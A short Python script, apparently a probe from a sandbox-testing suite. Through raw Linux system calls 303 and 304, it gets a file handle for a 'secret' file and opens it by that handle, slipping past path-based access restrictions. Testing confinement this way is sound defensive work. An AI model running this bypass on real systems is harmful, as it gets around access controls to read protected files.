"""Opens files by their handles, past every path that could be refused."""
# Succeeds where open: fork

import ctypes

from attacker import PLACES, system_call

handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(132))
mount = ctypes.c_int()
named = system_call(303, -100, PLACES["secret"].encode(), handle, ctypes.byref(mount), 0, what="named a file's handle")
if named >= 0:
    system_call(304, -100, handle, 0, what="opened a file by its handle")
